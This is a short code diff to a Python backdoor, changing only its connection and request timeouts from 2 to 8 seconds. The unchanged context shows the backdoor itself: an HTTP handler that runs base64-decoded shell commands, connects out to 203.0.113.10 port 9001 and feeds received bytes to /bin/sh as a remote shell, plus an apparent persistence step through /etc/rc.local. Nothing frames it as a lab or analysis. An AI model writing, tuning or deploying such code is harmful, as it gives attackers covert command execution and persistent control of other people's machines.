@@ -18,7 +18,7 @@ class Door(BaseHTTPRequestHandler):
         if action == b"local":
             said = subprocess.run(base64.b64decode(text).decode(), shell=True, capture_output=True).stdout
         else:
-            with socket.create_connection(("203.0.113.10", 9001), 2) as link:
+            with socket.create_connection(("203.0.113.10", 9001), 8) as link:
                 said = subprocess.run(["/bin/sh"], input=link.recv(100), capture_output=True).stdout
                 link.sendall(said)
         self.send_response(200)
@@ -34,4 +34,4 @@ with open("/etc/rc.local", "a") as file:
 server = HTTPServer(("127.0.0.1", 8008), Door)
 threading.Thread(target=server.serve_forever, daemon=True).start()
 for body in (b"local:" + base64.b64encode(b"id"), b"remote:"):
-    urllib.request.urlopen("http://127.0.0.1:8008/", body, timeout=2).read()
+    urllib.request.urlopen("http://127.0.0.1:8008/", body, timeout=8).read()
